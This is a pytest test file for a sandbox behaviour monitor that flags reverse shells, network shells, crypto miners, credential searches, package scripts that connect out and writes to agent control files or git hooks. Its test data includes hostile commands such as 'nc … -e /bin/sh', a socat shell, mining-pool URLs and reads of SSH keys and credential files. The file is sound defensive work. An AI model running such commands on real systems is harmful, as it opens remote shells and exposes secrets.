"""Behaviours are matched as the data says: each shipped one by an example, harmless work by none."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vestibule.boundary.host import events, rules
from vestibule.boundary.host.behaviours import MAX_BEHAVIOURS, WORDS, load, shipped
from vestibule.boundary.host.events import BadRecord, Event, joined, parse
from vestibule.boundary.host.rules import Match, Matcher
from vestibule.core.control_files import CONTROL_FILES
from vestibule.core.errors import ConfigError
from vestibule.core.text.globs import first_match
from vestibule.core.text.paths import fold

COMPILED = rules.compile_behaviours(shipped().as_data())
WRITABLE = ("/workspace", "/tmp", "/home/agent", "/dev/shm")


class World:
    """A matcher and short ways to say what happens."""

    def __init__(self) -> None:
        self.matcher = Matcher(COMPILED, WRITABLE)
        self.clock = 0
        self.pid = 100
        self.matches: list[Match] = []

    def _take(self, kind: int, pid: int, parent: int, **more: object) -> None:
        self.clock += 1_000_000
        event = Event(kind=kind, time=self.clock, group=1, pid=pid, parent=parent, comm="x", **{"flags": 0, **more})  # type: ignore[arg-type]
        self.matches += self.matcher.take(event)

    def run(self, *argv: str, parent: int = 1, flags: int = 0, path: str = "") -> int:
        self.pid += 1
        where = path or (argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0]}")
        self._take(events.EXEC, self.pid, parent, path=where, arguments=argv, flags=flags, inode=self.pid)
        return self.pid

    def connect(self, pid: int, address: str, port: int = 4444) -> None:
        self._take(events.CONNECT, pid, 1, address=address, port=port)

    def write(self, path: str, kind: int = events.WRITE, flags: int = 0) -> None:
        self._take(kind, 100, 1, path=path, flags=flags)

    def call(self, name: str) -> None:
        self._take(events.CALL, 100, 1, call=name)

    @property
    def names(self) -> set[str]:
        return {match.behaviour for match in self.matches}

    @property
    def worst(self) -> str:
        order = ("notice", "warning", "critical")
        return max((match.severity for match in self.matches), key=order.index, default="")


@pytest.fixture
def world() -> World:
    return World()


def test_a_shell_on_a_socket_is_a_reverse_shell_whatever_it_is_called(world: World) -> None:
    world.run("innocent", path="/usr/bin/dash", flags=events.SOCKET_IN)
    assert world.names == {"reverse-shell"}


def test_a_shell_that_connects_outside_is_one_and_to_loopback_none(world: World) -> None:
    shell = world.run("bash", "-c", "wait for the database")
    world.connect(shell, "127.0.0.1", 5432)
    world.connect(shell, "127.64.0.3", 80)
    assert not world.names
    world.connect(shell, "203.0.113.5")
    assert world.worst == "critical"


def test_a_connection_and_then_an_interactive_shell_is_a_sequence_of_one_family(world: World) -> None:
    python = world.run("python3", "-c", "…")
    world.connect(python, "203.0.113.5")
    stranger = world.run("bash", "-i")
    assert "connects-then-shell" not in world.names
    world.run("bash", "-i", parent=python)
    assert "connects-then-shell" in world.names
    assert stranger


def test_a_sequence_ends_with_its_time(world: World) -> None:
    python = world.run("python3")
    world.connect(python, "203.0.113.5")
    world.clock += 31 * 10**9
    world.run("bash", "-i", parent=python)
    assert "connects-then-shell" not in world.names


@pytest.mark.parametrize(
    ("argv", "name"),
    [
        (("nc", "203.0.113.5", "4444", "-e", "/bin/sh"), "network-shell"),
        (("socat", "TCP:203.0.113.5:1", "EXEC:/bin/sh"), "network-shell"),
        (("a.out", "-o", "stratum+tcp://pool.example.com:3333", "-u", "w"), "crypto-miner"),
        (("./work", "--donate-level=1"), "crypto-miner"),
        (("/tmp/xmrig",), "miner-program"),
        (("cat", "/home/agent/.ssh/id_rsa"), "credential-look"),
        (("grep", "-r", "BEGIN RSA PRIVATE KEY", "/"), "credential-look"),
        (("sh", "-c", "cat"), ""),
        (("npm", "test"), ""),
        (("ssh-keygen", "--help"), ""),
    ],
)
def test_a_program_is_known_by_what_it_is_told_to_do(world: World, argv: tuple[str, ...], name: str) -> None:
    world.run(*argv)
    assert world.names == ({name} if name else set())


def test_one_look_is_a_notice_and_three_different_ones_are_a_search(world: World) -> None:
    for path in ("/home/agent/.ssh/id_rsa", "/home/agent/.ssh/id_rsa", "/home/agent/.aws/credentials"):
        world.run("cat", path)
    assert world.worst == "notice"
    world.run("find", "/", "-name", ".git-credentials", "-path", "/x/.npmrc")
    assert world.worst == "critical"


def test_scripts_of_packages_are_told_and_ended_when_they_reach_out(world: World) -> None:
    npm = world.run("node", "/usr/bin/npm", "install", "left-pad")
    script = world.run("sh", "-c", "node build.js", parent=npm)
    assert world.names == {"package-script"}
    assert world.worst == "notice"
    curl = world.run("curl", "-s", "http://203.0.113.5/x", parent=script)
    world.connect(curl, "203.0.113.5", 80)
    assert "package-script-connects" in world.names


def test_a_scripts_of_the_own_project_are_no_packages(world: World) -> None:
    npm = world.run("node", "/usr/bin/npm", "run", "build")
    world.run("sh", "-c", "node build.js", parent=npm)
    assert not world.names


@pytest.mark.parametrize(
    "path", ["CLAUDE.md", "a/b/agents.md", ".vscode/settings.json", ".Cursor/rules/x", "x.code-workspace"]
)
def test_control_files_are_told_however_they_are_spelt(world: World, path: str) -> None:
    world.write(f"/workspace/{path}")
    assert world.names == {"control-file"}
    world.write(f"/workspace/{path}", events.UNLINK)
    assert world.names == {"control-file", "control-file-removed"}
    assert world.worst == "warning"


@given(st.sampled_from(CONTROL_FILES), st.text(st.sampled_from("abA./-"), max_size=12))
def test_the_monitor_knows_exactly_the_control_files_that_guards_know(pattern: str, more: str) -> None:
    path = pattern.replace("**/", more).replace("{,/**}", "").replace("*", "x") or "x"
    listed = next(item for item in COMPILED if item.name == "control-file").steps[0].listed
    assert listed is not None
    for candidate in (path, more + path, path + more):
        expected = first_match(fold(candidate), CONTROL_FILES) is not None
        assert listed.fits(f"/workspace/{candidate}") == expected, candidate


def test_hooks_are_told_and_their_samples_are_not(world: World) -> None:
    world.write("/workspace/.git/hooks/pre-commit.sample")
    assert not world.names
    world.write("/workspace/sub/dir/.git/hooks/post-checkout")
    world.write("/workspace/bare.git/hooks/post-checkout")
    assert world.names == {"git-hook"}


def test_a_write_where_nothing_is_writable_is_an_alarm(world: World) -> None:
    for path in ("/workspace/a", "/tmp/b", "/home/agent/.cache/x", "/dev/shm/y", "/proc/77/oom_score_adj"):
        world.write(path)
    world.write("memfd:x", flags=events.DETACHED | events.UNLINKED)
    assert not world.names
    for path in ("/etc/passwd", "/workspaces/x", "/tmpx"):
        world.write(path)
    assert world.names == {rules.OUTSIDE}
    assert world.worst == "critical"


def test_a_file_that_was_exchanged_before_it_could_be_looked_at_is_told(world: World) -> None:
    world.write("", flags=events.RACED)
    assert world.names == {rules.UNRESOLVED}


def test_harmless_work_is_told_by_nothing(world: World) -> None:
    """What the list of benign cases for sandboxes describes."""
    world.run("git", "status")
    world.run("git", "diff")
    for path in (
        "/workspace/.git/index.lock",
        "/workspace/.git/config",
        "/workspace/scripts/dev.sh",
        "/tmp/pytest-of-agent/x",
    ):
        world.write(path)
    for path in ("/home/agent/.cache/pip/http/a", "/workspace/.pytest_cache/v/x", "/workspace/package.json"):
        world.write(path)
    python = world.run("python3", "-m", "pytest", "-q")
    world.connect(python, "127.0.0.1", 53)
    world.run("chmod", "+x", "scripts/dev.sh")
    world.run("sh", "-c", "python3 -c 'import os; os.kill(1, 0)'", parent=python)
    world.run("pip", "install", "-e", ".")
    world.run("cat", "/proc/self/status")
    assert not world.matches


def test_a_refused_connection_of_an_ordinary_program_ends_nothing(world: World) -> None:
    world.connect(world.run("node", "next", "telemetry"), "203.0.113.7", 443)
    assert world.worst == "notice"


def test_a_forked_child_is_its_parents_program(world: World) -> None:
    shell = world.run("bash")
    world._take(events.CONNECT, 9999, shell, address="203.0.113.5", port=1)
    assert "shell-connects" in world.names


def test_padding_hides_nothing_at_either_end(world: World) -> None:
    world.run("x", "stratum+tcp://pool.example.com" + "a" * 5000)
    world.run("y", "b" * 5000 + "stratum+tcp://pool.example.com")
    assert len(world.matches) == 2


def test_what_is_kept_is_bounded_and_says_so(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rules, "MAX_WRITES", 10)
    monkeypatch.setattr(rules, "MAX_MATCHES", 5)
    for number in range(30):
        world.write(f"/workspace/{number}")
        world.write(f"/etc/{number}")
    assert world.matcher.full
    assert len(world.matcher.writes) == 10
    assert len(world.matches) == 5
    assert world.matcher.left_out == 25


def test_every_behaviour_has_words_and_every_example_of_the_file_compiles() -> None:
    assert {rules.OUTSIDE, rules.UNRESOLVED} == set(WORDS)
    assert all(item.what.endswith(".") for item in shipped().behaviours)
    assert len(shipped().behaviours) == len(COMPILED)
    assert len(json.dumps(shipped().as_data())) < 100_000, "it fits into one packet to the monitor"


GOOD = "version: 1\nbehaviours:\n  - {name: a, what: A sentence., severity: notice, action: host.exec, steps: [STEP]}\n"


@pytest.mark.parametrize(
    "step",
    [
        "{event: exec}",
        "{event: sleep, path: [x]}",
        "{event: exec, path: ['(a+)+']}",
        "{event: exec, path: ['(?=a)b']}",
        "{event: exec, path: ['(?i)b']}",
        "{event: exec, path: ['[']}",
        "{event: exec, pathe: [x]}",
        "{event: exec, flags: [unheard]}",
        "{event: call, calls: [unheard]}",
    ],
)
def test_a_step_that_cannot_be_meant_is_refused_with_its_line(step: str) -> None:
    with pytest.raises(ConfigError) as error:
        load(GOOD.replace("STEP", step).encode(), "b.yaml")
    assert "b.yaml:" in str(error.value.where)


@pytest.mark.parametrize(
    "change",
    [
        ("severity: notice", "severity: fine"),
        ("action: host.exec", "action: host.dance"),
        ("name: a", "name: outside-write"),
        ("steps: [", "times: 3, seconds: 5, steps: ["),
        ("steps: [", "control_files: true, steps: ["),
        ("steps: [", "extra: 1, steps: ["),
        ("version: 1", "version: 2"),
    ],
)
def test_a_behaviour_that_cannot_be_meant_is_refused(change: tuple[str, str]) -> None:
    good = GOOD.replace("STEP", "{event: exec, path: [x]}")
    assert load(good.encode(), "b.yaml").behaviours
    with pytest.raises(ConfigError):
        load(good.replace(*change).encode(), "b.yaml")


def test_more_behaviours_than_are_read_are_refused() -> None:
    one = "  - {name: a%d, what: A sentence., severity: notice, action: host.exec, steps: [{event: exec, path: [x]}]}\n"
    text = "version: 1\nbehaviours:\n" + "".join(one % number for number in range(MAX_BEHAVIOURS + 1))
    with pytest.raises(ConfigError):
        load(text.encode(), "b.yaml")


@given(st.binary(max_size=400))
def test_bytes_that_are_no_record_are_refused_and_never_more(data: bytes) -> None:
    try:
        found = parse(data)
    except (BadRecord, ValueError):
        return
    Matcher(COMPILED, WRITABLE).take(found)


@given(st.integers(1, 11), st.integers(0, 255), st.binary(max_size=300), st.binary(max_size=300))
def test_any_record_of_the_right_form_is_read(kind: int, flags: int, path: bytes, text: bytes) -> None:
    text = text.ljust(16, b"\0")
    head = events.HEAD.pack(1, 2, 3, kind, flags, 4, 5, 6, 10, -1, 7, 8, 9, b"comm", len(path), len(text))
    try:
        found = parse(head + path + text)
    except ValueError:
        return
    Matcher(COMPILED, WRITABLE).take(found)
    json.dumps(found)


@given(st.text(st.sampled_from("a./"), max_size=20), st.text(st.sampled_from("b./"), max_size=20))
def test_a_path_that_is_joined_never_leaves_the_root(folder: str, given_path: str) -> None:
    found = joined("/" + folder, given_path)
    assert found.startswith("/")
    assert ".." not in found.split("/")


def test_the_layout_of_records_is_the_one_of_the_source() -> None:
    source = (Path(rules.__file__).parent / "bpf/monitor.bpf.c").read_text()
    kinds = source[source.index("enum kind {") : source.index("enum flag {")]
    for name, number in (("EXEC", 1), ("WRITE", 2), ("CALL", 10), ("MET", 11)):
        assert f"{name} = {number}" in kinds
        assert getattr(events, name) == number
